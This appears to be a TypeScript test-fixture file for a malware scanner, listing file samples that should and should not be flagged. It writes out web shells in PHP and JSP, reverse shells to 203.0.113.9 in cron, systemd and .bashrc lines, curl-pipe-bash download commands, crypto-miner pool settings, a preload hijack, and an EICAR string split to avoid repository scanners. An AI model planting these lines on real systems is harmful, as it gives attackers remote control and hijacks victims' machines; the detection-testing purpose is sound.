/** Written in pieces: what scans this repository for malware is not to find any. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('-');

const php = (code: string): string => `<?php\n${code}\n`;
const input = ['$_PO', "ST['c']"].join('');
const tcp = ['/dev', 'tcp', '203.0.113.9', '4444'].join('/');
const pool = ['stratum+tcp:', '', 'pool.example.org:3333'].join('/');

export interface ThreatSamples {
  readonly found: readonly (readonly [path: string, text: string])[];
  /** What looks like it and is none. */
  readonly left: readonly (readonly [path: string, text: string])[];
}

export const THREAT_SAMPLES: Readonly<Record<string, ThreatSamples>> = {
  eicar: {
    found: [
      ['/tmp/dropped', EICAR],
      ['/srv/files/a.com', `${EICAR}\n`],
    ],
    left: [
      ['/opt/doc/eicar.txt', `The file holds ${EICAR}\n`],
      ['/opt/test.py', `${EICAR}\n${'# and a program that says so\n'.repeat(5)}`],
    ],
  },
  'web-shell-php': {
    found: [
      ['/var/www/html/upload.php', php(`@eval(${input});`)],
      ['/srv/a.php', php(`system(base64_decode(${input}));`)],
      ['/srv/b.phtml', php(`eval(gzinflate(base64_decode('${'QUJD'.repeat(20)}')));`)],
    ],
    left: [
      ['/var/www/html/form.php', php(`$name = htmlspecialchars(${input});\nexec('ls');`)],
      ['/var/www/html/note.php', php(`// never eval(${input})`)],
      ['/opt/rules.txt', `eval(${input})`],
    ],
  },
  'web-shell-jsp': {
    found: [['/opt/tomcat/webapps/x.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>']],
    left: [
      [
        '/opt/tomcat/webapps/y.jsp',
        '<% Runtime.getRuntime().exec("date"); out.print(request.getParameter("c")); %>',
      ],
    ],
  },
  'reverse-shell-started': {
    found: [
      ['/etc/cron.d/job', `* * * * * root bash -i >& ${tcp} 0>&1\n`],
      ['/etc/systemd/system/shop.service', '[Service]\nExecStart=/usr/bin/nc -e /bin/sh 203.0.113.9 4444\n'],
      ['/root/.bashrc', `bash -i >& ${tcp} 0>&1\n`],
    ],
    left: [
      ['/opt/wait.sh', `until (echo > ${tcp}) 2>/dev/null; do sleep 1; done\n`],
      ['/etc/cron.d/job', `# bash -i >& ${tcp}\n* * * * * root nc -z localhost 80\n`],
    ],
  },
  'download-started': {
    found: [
      ['/var/spool/cron/root', '*/5 * * * * curl -fsSL http://203.0.113.9/i.sh | bash\n'],
      ['/etc/cron.d/job', '* * * * * root echo Y3VybA== | base64 -d | sh\n'],
    ],
    left: [
      ['/etc/cron.d/job', '* * * * * root curl -fsS https://backup.example.org/run | tee /var/log/run\n'],
      ['/opt/install.sh', 'curl -fsSL http://203.0.113.9/i.sh | bash\n'],
    ],
  },
  'miner-configuration': {
    found: [
      ['/tmp/config.json', `{"donate-level": 1, "pools": [{"url": "a:3333", "user": "${'4'.repeat(30)}"}]}`],
      ['/opt/.x/c', `url=${pool}\nuser=abc\n`],
    ],
    left: [
      ['/opt/config.json', '{"donate-level": 1}'],
      ['/opt/README.md', `Pools look like ${pool}, with a user and a pass\n`],
    ],
  },
  'miner-started': {
    found: [['/etc/systemd/system/sys.service', `[Service]\nExecStart=/usr/bin/sys -o ${pool}\n`]],
    left: [['/etc/systemd/system/db.service', '[Service]\nExecStart=/usr/bin/postgres --pools 4\n']],
  },
  'preloaded-library': {
    found: [['/etc/ld.so.preload', '/dev/shm/libx.so\n']],
    left: [['/etc/ld.so.preload', '/usr/lib/libjemalloc.so.2\n']],
  },
};
